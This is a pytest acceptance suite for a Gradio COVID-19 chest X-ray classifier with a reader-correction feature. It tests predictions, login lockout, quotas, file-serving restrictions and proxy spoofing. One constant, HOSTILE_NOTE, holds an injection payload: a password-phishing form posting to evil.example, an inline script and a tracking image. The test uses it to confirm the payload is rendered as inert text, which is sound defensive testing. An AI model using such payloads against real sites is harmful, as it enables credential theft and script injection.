"""Acceptance tests of the Space: the app launched in-process with a small model, driven through gradio_client."""

from __future__ import annotations

import dataclasses
import io
import os
import re
import socket
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace

os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")

import gradio as gr
import httpx
import numpy as np
import pytest
from badfiles import make_bad_files
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from PIL import Image

import app
from feedback.export import export_corrections
from feedback.readers import hash_password, load_readers
from feedback.store import DB_NAME, CorrectionStore
from model.artifact import save_artifact
from model.card import new_card
from model.config import NEGATIVE_NAME, POSITIVE_NAME, ModelConfig
from model.images import MAX_FILE_BYTES, ImageError, file_sha256, read_grey
from model.serving.cache import PredictionCache
from model.serving.predictor import load_predictor
from space import presentation as show
from tests.models import build_model
from tests.server import distinct_xrays

INPUT_SIZE = 64
EXAMPLES = {Path(p).name: Path(p) for p in app.example_files()}
READERS = {"XRAY_READERS": f"dr_plain:opensesame,dr_hashed:{hash_password('s3cret', iterations=1000)},"
                           f"dr_locked:{hash_password('right', iterations=1000)}"}
HOSTILE_NOTE = (
    'see <form action="http://evil.example/"><input type=password name=pw></form>'
    "<script>window.pwned = 1</script>\n![t](http://tracker.example/x.png)\n- #99 **positive** by dr_chief"
)
RECORD_ID = re.compile(r"record \*\*#(\d+)\*\*")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def served(predictor, feedback_root: Path, readers: dict, downloads: Path, **launch_kwargs):
    """The app on a free local port, with a client for it; closed afterwards."""
    store = CorrectionStore(feedback_root)
    demo = app.build_demo(predictor, store, readers, model_path=feedback_root.parent / "no-model-here")
    app.launch(demo, store, server_name="127.0.0.1", server_port=free_port(), prevent_thread_lock=True,
               quiet=True, **launch_kwargs)
    try:
        yield Client(demo.local_url, verbose=False, analytics_enabled=False, download_files=downloads), demo.local_url
    finally:
        demo.close()


@pytest.fixture(scope="module")
def network_runs() -> list[int]:
    """Batch sizes of every forward pass the app's predictor made."""
    return []


@pytest.fixture(scope="module")
def network_threads() -> list[str]:
    """The name of the thread each of those forward passes ran on."""
    return []


@pytest.fixture(scope="module")
def predictor(tmp_path_factory, network_runs, network_threads):
    config = ModelConfig(weights="none", input_size=INPUT_SIZE, pooling="avg", dense=(8,))
    folder = tmp_path_factory.mktemp("model")
    save_artifact(build_model(config), folder, new_card(config, 0.5, "fixed at 0.5 for tests", {}, {}))
    loaded = load_predictor(folder)

    def counted(images):
        network_runs.append(len(images))
        network_threads.append(threading.current_thread().name)
        return loaded.run(images)

    return dataclasses.replace(loaded, run=counted)


@pytest.fixture(scope="module")
def open_app(predictor, tmp_path_factory):
    """App without reader accounts; its parent folder is an allowed path, as a careless deployment might set."""
    tmp = tmp_path_factory.mktemp("open")
    (tmp / "public.txt").write_text("served on purpose\n")
    with served(predictor, tmp / "feedback", {}, tmp / "downloads", allowed_paths=[str(tmp)]) as (client, url):
        yield client, url, tmp / "feedback"


@pytest.fixture(scope="module")
def guarded_app(predictor, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("guarded")
    with served(predictor, tmp / "feedback", load_readers(READERS), tmp / "downloads") as (client, url):
        yield client, url, tmp / "feedback"


def predict(client: Client, path: Path):
    return client.predict(handle_file(str(path)), api_name="/predict")


def flag(client: Client, path: Path, label: str, reader: str, password: str = "", note: str = ""):
    return client.predict(handle_file(str(path)), label, reader, password, note, api_name="/flag")


def shown(earlier: dict) -> dict[int, list]:
    """The earlier-corrections table as the client gets it: record id -> its row of cells."""
    assert earlier["headers"] == list(show.CORRECTION_COLUMNS)
    return {int(row[0].lstrip("#")): row for row in earlier["data"]}


def record_id(confirmation: str) -> int:
    return int(RECORD_ID.search(confirmation).group(1))


def test_examples_are_real_xrays_of_both_classes_and_small():
    assert {name.split("-")[0] for name in EXAMPLES} == {"covid", "normal"}
    assert 4 <= len(EXAMPLES) <= 8
    readme = (app.EXAMPLES_DIR / "README.md").read_text()
    for name, path in EXAMPLES.items():
        assert f"`{name}`" in readme
        assert max(Image.open(path).size) <= 512
        assert read_grey(path).std() > 20


def test_predict_example_returns_label_decision_overlay_at_its_aspect_and_no_corrections(open_app, predictor):
    client, _, _ = open_app
    example = EXAMPLES["covid-3.png"]
    scores, decision, overlay_path, earlier, status, reason, version = predict(client, example)

    expected = predictor.predict(example)
    confidences = {c["label"]: c["confidence"] for c in scores["confidences"]}
    assert confidences == pytest.approx({POSITIVE_NAME: expected.probability, NEGATIVE_NAME: 1 - expected.probability})
    assert f"**{expected.label}**" in decision and "threshold of 0.50" in decision
    overlay = np.asarray(Image.open(overlay_path))
    assert overlay.shape == (*Image.open(example).size[::-1], 3)
    assert np.abs(overlay[..., 0].astype(int) - overlay[..., 2]).mean() > 5, "no heatmap colour on the grey X-ray"
    assert earlier["data"] == []
    assert (status, version) == ("answered", predictor.version) and reason == "no input check for this model"
    assert "no input check for this model" in decision and f"`{predictor.version}`" in decision


def test_the_api_label_is_the_decision_for_a_probability_between_the_threshold_and_one_half(predictor, tmp_path):
    """At the shipped model's threshold (0.166) a probability of 0.30 is a positive decision though negative is the
    likelier class: the Label's `label` says the decision, its confidences stay 0.30 and 0.70, and /predict still
    returns its seven outputs in their order."""
    def constant(images):
        return np.full(len(images), 0.3), np.zeros((len(images), 2, 2), "float32"), np.zeros((len(images), 2))

    screening = dataclasses.replace(predictor, card=dataclasses.replace(predictor.card, threshold=0.166), run=constant)
    with served(screening, tmp_path / "feedback", {}, tmp_path / "downloads") as (client, _):
        outputs = predict(client, EXAMPLES["normal-1.png"])
    scores, decision, overlay, earlier, status, reason, version = outputs
    assert len(outputs) == 7 and status == "answered" and overlay and earlier["data"] == []
    assert scores["label"] == POSITIVE_NAME and decision.startswith(f"**{POSITIVE_NAME}**: ")
    assert "0.30, at or above its decision threshold of 0.17" in decision
    assert [(c["label"], c["confidence"]) for c in scores["confidences"]] == [(NEGATIVE_NAME, pytest.approx(0.7)),
                                                                          (POSITIVE_NAME, pytest.approx(0.3))]
    assert (reason, version) == ("no input check for this model", predictor.version)


def test_flag_stores_one_row_and_image_copy_without_rerunning_the_network(open_app, predictor, network_runs):
    client, _, root = open_app
    example = EXAMPLES["covid-1.jpg"]
    _, decision, *_ = predict(client, example)
    runs_after_predict = len(network_runs)

    first, earlier = flag(client, example, "negative", "dr_who", note="no opacities")
    assert len(network_runs) == runs_after_predict
    (row,) = CorrectionStore(root).for_image(file_sha256(example))
    assert record_id(first) == row.id and "already" not in first
    assert (row.correct_label, row.reader, row.note) == ("negative", "dr_who", "no opacities")
    assert row.original_filename == "covid-1.jpg" and row.model_version == predictor.version
    assert row.predicted_label in decision.lower() and 0 <= row.probability <= 1
    assert Path(row.image_path).suffix == ".png" and row.image_sha256 == file_sha256(example)
    np.testing.assert_array_equal(read_grey(row.image_path), read_grey(example))
    assert shown(earlier)[row.id][1:3] == ["COVID-19 negative", "dr_who"]

    again, _ = flag(client, example, "negative", "dr_who")
    assert record_id(again) == row.id and "already" in again
    assert CorrectionStore(root).for_image(file_sha256(example)) == [row]
    public = predict(client, example)[3]
    assert public["headers"] == list(show.PUBLIC_CORRECTION_COLUMNS) and public["data"] == [[show.REVIEWED]]
    assert "no opacities" not in str(public) and "dr_who" not in str(public)


def test_predictions_and_a_flag_of_an_image_never_predicted_run_the_network_on_its_one_thread(open_app, tmp_path,
                                                                                             network_threads):
    client, _, _ = open_app
    start = len(network_threads)
    predict(client, distinct_xrays(EXAMPLES["normal-2.png"], tmp_path / "predicted", 1)[0])
    flag(client, distinct_xrays(EXAMPLES["covid-3.png"], tmp_path / "flagged", 1)[0], "negative", "dr_thread")
    assert len(network_threads) == start + 2, "the prediction and the flag each ran the network"
    assert {name.split("_")[0] for name in network_threads[start:]} == {"network"}, network_threads[start:]


@pytest.mark.parametrize("kind", ["text_as_png", "truncated_png", "blank", "dicom_no_pixels", "tiny_1x1"])
def test_bad_file_gets_the_image_error_and_the_server_keeps_serving(open_app, tmp_path, kind):
    client, _, _ = open_app
    bad = make_bad_files(tmp_path)[kind]
    with pytest.raises(ImageError) as expected:
        read_grey(bad)
    with pytest.raises(AppError, match=re.escape(str(expected.value))):
        predict(client, bad)
    assert predict(client, EXAMPLES["normal-2.png"])[0]["confidences"]


def test_flagging_an_unreadable_file_is_refused_and_stores_nothing(open_app, tmp_path):
    client, _, root = open_app
    bad = make_bad_files(tmp_path)["html_as_jpg"]
    before = len(CorrectionStore(root).all())
    with pytest.raises(AppError, match="not an image"):
        flag(client, bad, "positive", "dr_who")
    assert len(CorrectionStore(root).all()) == before


def test_oversized_upload_is_refused_and_the_server_keeps_serving(open_app, tmp_path):
    client, url, _ = open_app
    big = tmp_path / "big.png"
    big.write_bytes(EXAMPLES["normal-3.png"].read_bytes())
    with big.open("r+b") as f:
        f.truncate(MAX_FILE_BYTES + 1)
    with pytest.raises(ValueError, match=f"exceeds the maximum file size of {MAX_FILE_BYTES} bytes"):
        predict(client, big)
    with big.open("rb") as f:
        assert httpx.post(f"{url}gradio_api/upload", files={"files": f}, timeout=60).status_code == 413
    assert predict(client, EXAMPLES["normal-3.png"])[0]["confidences"]


def test_feedback_store_is_never_served_even_under_an_allowed_path(open_app):
    client, url, root = open_app
    flag(client, EXAMPLES["covid-2.jpg"], "uncertain", "dr_files")
    stored = [root / DB_NAME, *(Path(c.image_path) for c in CorrectionStore(root).all())]
    assert all(path.is_file() for path in stored)

    public = httpx.get(f"{url}gradio_api/file={root.parent / 'public.txt'}")
    assert public.status_code == 200 and public.text == "served on purpose\n"
    for path in stored:
        assert httpx.get(f"{url}gradio_api/file={path}").status_code == 403


def test_fifty_flags_from_ten_threads_all_land_once(open_app, monkeypatch):
    """Ten readers at once, each from an address of their own behind the proxy (one client may have only
    settings.requests_per_client() requests in the queue)."""
    _, url, root = open_app
    monkeypatch.setenv("XRAY_TRUSTED_PROXIES", "1")
    clients = [Client(url, verbose=False, analytics_enabled=False, download_files=False,
                      headers={"X-Forwarded-For": f"198.51.100.{i}"}) for i in range(10)]
    example = EXAMPLES["normal-3.png"]
    readers = [f"reader-{i:02d}" for i in range(50)]

    def send(names: list[str]) -> list[int]:
        with ThreadPoolExecutor(10) as pool:
            return list(pool.map(lambda i: record_id(flag(clients[i % 10], example, "positive", names[i])[0]),
                                 range(len(names))))

    ids = send(readers)
    rows = CorrectionStore(root).for_image(file_sha256(example))
    assert sorted(c.reader for c in rows) == readers
    assert sorted(ids) == sorted(c.id for c in rows)
    assert len({c.image_path for c in rows}) == 1
    assert send(readers[:10]) == ids[:10]
    assert CorrectionStore(root).for_image(file_sha256(example)) == rows


@pytest.mark.parametrize("reader, password", [("dr_plain", ""), ("dr_plain", "wrong"), ("dr_hashed", "opensesame"),
                                              ("intruder", "opensesame"), ("", "")])
def test_with_reader_accounts_a_flag_without_valid_login_is_refused_and_nothing_stored(guarded_app, reader, password):
    client, _, root = guarded_app
    images = root / "images"
    before = (CorrectionStore(root).all(), sorted(images.iterdir()) if images.exists() else [])
    with pytest.raises(AppError, match="Unknown reader or wrong password"):
        flag(client, EXAMPLES["covid-3.png"], "negative", reader, password)
    assert (CorrectionStore(root).all(), sorted(images.iterdir()) if images.exists() else []) == before


def test_with_reader_accounts_the_right_password_stores_the_correction(guarded_app):
    client, _, root = guarded_app
    confirmation, _ = flag(client, EXAMPLES["normal-1.png"], "uncertain", "dr_hashed", "s3cret")
    (row,) = [c for c in CorrectionStore(root).all() if c.reader == "dr_hashed"]
    assert record_id(confirmation) == row.id and row.correct_label == "uncertain"
    assert predict(client, EXAMPLES["normal-1.png"])[0]["confidences"]


def test_without_a_model_the_app_starts_says_how_to_train_and_predict_explains(tmp_path):
    with served(None, tmp_path / "feedback", {}, tmp_path / "downloads") as (client, url):
        page = httpx.get(url).text
        assert "No model found" in page and "python -m model.train" in page
        with pytest.raises(AppError, match="python -m model.train"):
            predict(client, EXAMPLES["normal-1.png"])


def test_a_new_file_is_previewed_and_the_old_result_cleared_before_it_is_analysed(predictor, tmp_path):
    demo = app.build_demo(predictor, CorrectionStore(tmp_path / "feedback"), {})
    step = {f.name: f.fn for f in demo.fns.values()}
    image, *cleared = step["show_file"](str(EXAMPLES["covid-2.jpg"]))
    assert image.shape == (512, 426) and cleared == [{}, "", None, show.corrections_table([]), "", "", "", ""]
    assert step["show_file"](str(make_bad_files(tmp_path)["text_as_png"]))[0] is None
    assert step["predict_new_file"](None) == gr.skip()
    assert step["predict_new_file"](str(EXAMPLES["covid-2.jpg"]))[1].startswith("**COVID-19")


def test_prediction_cache_reuses_by_content_and_forgets_the_oldest(predictor, network_runs):
    cache = PredictionCache(predictor, size=2)
    a, b, c = (EXAMPLES[name].read_bytes() for name in ("covid-1.jpg", "normal-1.png", "normal-2.png"))
    start = len(network_runs)
    cache(a), cache(b), cache(bytes(a))
    assert len(network_runs) - start == 2
    cache(c), cache(a)
    assert len(network_runs) - start == 3
    cache(b)
    assert len(network_runs) - start == 4


def test_a_hostile_note_comes_back_as_plain_text_in_its_own_cell(open_app):
    client, _, root = open_app
    example = EXAMPLES["normal-1.png"]
    _, earlier = flag(client, example, "positive", "dr_note", note=HOSTILE_NOTE)
    (row,) = [c for c in CorrectionStore(root).for_image(file_sha256(example)) if c.reader == "dr_note"]
    assert list(shown(earlier)) == [row.id] and shown(earlier)[row.id][-1] == HOSTILE_NOTE
    later = predict(client, example)[3]
    assert later["data"] == [[show.REVIEWED]] and "evil" not in str(later) and "dr_note" not in str(later)


def test_five_wrong_passwords_then_the_right_one_is_refused_for_too_many_attempts(guarded_app):
    client, _, root = guarded_app
    for _ in range(5):
        with pytest.raises(AppError, match="Unknown reader or wrong password"):
            flag(client, EXAMPLES["covid-3.png"], "negative", "dr_locked", "wrong")
    with pytest.raises(AppError, match="Too many attempts for reader 'dr_locked'"):
        flag(client, EXAMPLES["covid-3.png"], "negative", "dr_locked", "right")
    assert not [c for c in CorrectionStore(root).all() if c.reader == "dr_locked"]


def test_unknown_reader_and_wrong_password_both_cost_one_pbkdf2_through_the_app(guarded_app, monkeypatch):
    import hashlib

    import feedback.readers

    client, _, _ = guarded_app
    calls, real = [], hashlib.pbkdf2_hmac
    monkeypatch.setattr(feedback.readers.hashlib, "pbkdf2_hmac",
                        lambda *args: calls.append(args[-1]) or real(*args))
    for reader in ("dr_nobody", "dr_hashed"):
        with pytest.raises(AppError, match="Unknown reader or wrong password"):
            flag(client, EXAMPLES["covid-3.png"], "negative", reader, "not-the-password")
    assert calls == [1000, 1000]


def test_a_flagged_png_with_40_mb_of_junk_is_stored_as_the_decoded_image_under_2_mb(open_app, tmp_path):
    client, _, root = open_app
    padded = tmp_path / "padded.png"
    padded.write_bytes(EXAMPLES["normal-2.png"].read_bytes() + os.urandom(40 * 2**20))
    flag(client, padded, "uncertain", "dr_junk")
    (row,) = [c for c in CorrectionStore(root).all() if c.reader == "dr_junk"]
    assert Path(row.image_path).stat().st_size < 2 * 2**20 and row.image_sha256 == file_sha256(padded)
    np.testing.assert_array_equal(read_grey(row.image_path), read_grey(EXAMPLES["normal-2.png"]))


@pytest.mark.parametrize("setting, message", [("XRAY_FEEDBACK_QUOTA_MB", "the feedback store is full"),
                                              ("XRAY_FEEDBACK_DAILY_FLAGS", "daily limit is 0")])
def test_a_flag_over_a_store_quota_is_refused_before_any_prediction_and_stores_nothing(
        open_app, tmp_path, monkeypatch, network_runs, setting, message):
    client, _, root = open_app
    monkeypatch.setenv(setting, "0")
    fresh = distinct_xrays(EXAMPLES["covid-3.png"], tmp_path, 1)[0]
    before, runs = CorrectionStore(root).all(), len(network_runs)
    with pytest.raises(AppError, match=f"Not stored: .*{message}"):
        flag(client, fresh, "negative", "dr_quota")
    assert CorrectionStore(root).all() == before
    assert len(network_runs) == runs, "the network ran for a flag the quota refuses"


def test_a_refused_input_is_flagged_with_what_it_is_never_with_a_covid_19_label(tmp_path):
    """A DICOM whose header says CT is refused by the input check (a gate that lets every image through, so only the
    header refuses); its flag records the reader's verdict on the input, and a COVID-19 label is refused."""
    from space.handlers import Handlers
    from space.service import Service
    from tests.badfiles import _dicom, _dicom_bytes
    from tests.server import add_gate, make_model

    gated = load_predictor(add_gate(make_model(tmp_path / "model")))
    store = CorrectionStore(tmp_path / "feedback")
    on = Handlers(Service(gated, store, {}, tmp_path / "model"))
    ct = tmp_path / "slice.dcm"
    ct.write_bytes(_dicom_bytes(_dicom(np.asarray(Image.open(EXAMPLES["covid-1.jpg"]).convert("L")), Modality="CT")))
    for label in ("positive", "negative", "uncertain"):
        with pytest.raises(gr.Error, match="The input check refused this image, so it gets no COVID-19 label"):
            on.flag(str(ct), label, "dr_scope", "", "")
    assert store.all() == []
    confirmation, _ = on.flag(str(ct), "out_of_scope", "dr_scope", "", "")
    [kept] = store.all()
    assert (kept.correct_label, kept.predicted_label) == ("out_of_scope", "out_of_scope")
    assert record_id(confirmation) == kept.id
    assert show.corrections_table([kept])["data"][0][1] == show.SCOPE_WORDS["out_of_scope"]


def test_in_open_mode_a_flag_is_unverified_says_so_and_is_left_out_of_the_default_export(open_app, tmp_path):
    client, url, root = open_app
    confirmation, earlier = flag(client, EXAMPLES["covid-2.jpg"], "negative", "dr_open")
    (row,) = [c for c in CorrectionStore(root).all() if c.reader == "dr_open"]
    assert not row.verified and "unverified" in confirmation
    assert shown(earlier)[row.id][4] == "no (open mode)"
    assert "no reader accounts (open mode)" in httpx.get(url).text
    export_corrections(CorrectionStore(root), tmp_path / "default")
    assert row.image_sha256 not in (tmp_path / "default" / "MANIFEST.csv").read_text()
    export_corrections(CorrectionStore(root), tmp_path / "all", include_unverified=True)
    assert row.image_sha256 in (tmp_path / "all" / "MANIFEST.csv").read_text()


def test_the_client_key_is_what_the_trusted_proxy_saw_else_the_peer():
    from settings import trusted_proxies
    from space.handlers import client_key

    peer = SimpleNamespace(host="10.0.0.9")
    forged = SimpleNamespace(headers={"x-forwarded-for": " 6.6.6.6, 203.0.113.7"}, client=peer)
    assert client_key(forged, proxies=1) == "203.0.113.7", "the entry the proxy appended, not the forged first one"
    assert client_key(forged, proxies=0) == "10.0.0.9", "without a trusted proxy the header is ignored"
    assert client_key(SimpleNamespace(headers={}, client=peer), proxies=1) == "10.0.0.9"
    assert client_key(None) is None
    assert trusted_proxies({}) == 0 and trusted_proxies({"SPACE_ID": "me/xray"}) == 1
    assert trusted_proxies({"SPACE_ID": "me/xray", "XRAY_TRUSTED_PROXIES": "2"}) == 2


def test_uploads_are_deleted_from_gradios_cache_and_predictions_share_one_queue(predictor, tmp_path):
    demo = app.build_demo(predictor, CorrectionStore(tmp_path / "feedback"), {})
    assert demo.delete_cache == app.DELETE_CACHE
    by_name = {f.name: f for f in demo.fns.values()}
    assert by_name["predict"].concurrency_id == by_name["predict_new_file"].concurrency_id == "predict"
    assert by_name["flag"].concurrency_id != "predict"


def test_prediction_cache_keeps_preview_size_images_within_its_byte_limit(predictor):
    big = np.asarray(Image.open(EXAMPLES["covid-2.jpg"]).convert("L").resize((2000, 1600)))
    images = [Image.fromarray(np.roll(big, i, axis=1)) for i in range(3)]
    datas = []
    for image in images:
        buffer = io.BytesIO()
        image.save(buffer, format="PNG")
        datas.append(buffer.getvalue())
    cache = PredictionCache(predictor, size=64, preview_side=512, max_bytes=600_000)
    for data in datas:
        _, kept = cache(data)
        assert kept.grey.shape == (410, 512)
        assert kept.crop_box == (0, 0, 410, 512), "the crop box follows the grey image it is kept with"
    assert cache.nbytes <= 600_000 and cache.get(file_sha256(datas[0])) is None
    assert cache.get(file_sha256(datas[-1])) is not None


def review(client: Client, reader: str, password: str, label: str = show.ALL, by_reader: str = show.ALL,
           version: str = show.ALL):
    return client.predict(reader, password, label, by_reader, version, api_name="/review")


def test_corrections_tab_shows_nothing_without_a_valid_sign_in_and_everything_with_one(guarded_app, tmp_path):
    client, _, root = guarded_app
    flag(client, EXAMPLES["covid-2.jpg"], "negative", "dr_plain", "opensesame", note="<b>not</b> covid")
    for reader, password in (("", ""), ("intruder", "opensesame")):
        with pytest.raises(AppError, match="Unknown reader or wrong password"):
            review(client, reader, password)
    with pytest.raises(AppError, match="Unknown reader or wrong password"):
        client.predict("dr_plain", "wrong", api_name="/review_export")

    status, table, pictures, counts, versions, matrix, _, _ = review(client, "dr_plain", "opensesame",
                                                                     by_reader="dr_plain")
    (row,) = [cells for cells in table["data"] if cells[-2] == "<b>not</b> covid"]
    assert row[5:7] == ["dr_plain", "COVID-19 negative"] and row[-1] == "yes"
    assert f"#{row[0].lstrip('#')}" in [picture["caption"] for picture in pictures]
    assert "**1** correction matches" in status and "**" in counts and versions["data"] and len(matrix["data"]) == 3
    assert max(Image.open(pictures[0]["image"]).size) <= show.THUMBNAIL_SIDE

    archive = client.predict("dr_plain", "opensesame", api_name="/review_export")
    names = zipfile.ZipFile(archive).namelist()
    assert "MANIFEST.csv" in names and any(name.startswith(("covid/", "not_covid/")) for name in names)


def test_what_a_reader_downloads_is_fetchable_by_url_only_for_a_while(guarded_app, tmp_path, monkeypatch):
    """The expiry timers are held and run by the test when it has fetched every link: with a 1.5-second lifetime a
    loaded machine could take longer than that between handing out the archive and fetching it."""
    from space import served

    held = []

    class HeldTimer(threading.Timer):
        def start(self) -> None:
            held.append(self)

    monkeypatch.setattr(served, "threading", SimpleNamespace(Timer=HeldTimer))
    client, url, _ = guarded_app
    flag(client, EXAMPLES["normal-3.png"], "positive", "dr_plain", "opensesame")
    direct = Client(url, verbose=False, analytics_enabled=False, download_files=False)
    archive = direct.predict("dr_plain", "opensesame", api_name="/review_export")
    pictures = direct.predict("dr_plain", "opensesame", show.ALL, show.ALL, show.ALL, api_name="/review")[2]
    links = [archive["url"], *(picture["image"]["url"] for picture in pictures)]
    assert len(links) >= 2 and all(httpx.get(link, timeout=30).status_code == 200 for link in links)
    assert held and {timer.interval for timer in held} == {served.LIFETIME_S}
    for timer in held:
        timer.function(*timer.args)
    after = [httpx.get(link, timeout=30).status_code for link in links]
    assert all(code in (403, 404) for code in after), f"still served after their lifetime: {after}"


def test_one_readers_expiry_never_removes_another_readers_files(guarded_app, monkeypatch):
    """Two readers review the same corrections: the same thumbnails and export. Gradio keeps one copy per content, so
    without files of their own the first reader's 1.5-second lifetime took the second reader's files too."""
    from space import served

    client, url, _ = guarded_app
    flag(client, EXAMPLES["normal-1.png"], "negative", "dr_plain", "opensesame")

    def handed_out(reader: str, password: str) -> list[str]:
        direct = Client(url, verbose=False, analytics_enabled=False, download_files=False)
        archive = direct.predict(reader, password, api_name="/review_export")
        pictures = direct.predict(reader, password, show.ALL, show.ALL, show.ALL, api_name="/review")[2]
        return [archive["url"], *(picture["image"]["url"] for picture in pictures)]

    monkeypatch.setattr(served, "LIFETIME_S", 1.5)
    first = handed_out("dr_plain", "opensesame")
    monkeypatch.setattr(served, "LIFETIME_S", 600.0)
    second = handed_out("dr_hashed", "s3cret")
    assert len(first) == len(second) >= 2 and not set(first) & set(second)
    time.sleep(3)
    assert all(httpx.get(link, timeout=30).status_code in (403, 404) for link in first)
    assert [httpx.get(link, timeout=30).status_code for link in second] == [200] * len(second)


def test_in_open_mode_the_corrections_tab_has_no_endpoints_and_says_it_needs_accounts(open_app):
    client, url, _ = open_app
    assert "needs reader accounts" in httpx.get(url).text
    with pytest.raises(ValueError, match="review"):
        review(client, "dr_who", "")


def test_predictions_are_counted_per_model_version_for_the_corrections_summary(open_app, predictor):

    client, _, root = open_app
    before = CorrectionStore(root).prediction_counts().get(predictor.version, 0)
    predict(client, EXAMPLES["normal-2.png"])
    predict(client, EXAMPLES["normal-2.png"])
    assert CorrectionStore(root).prediction_counts()[predictor.version] == before + 2
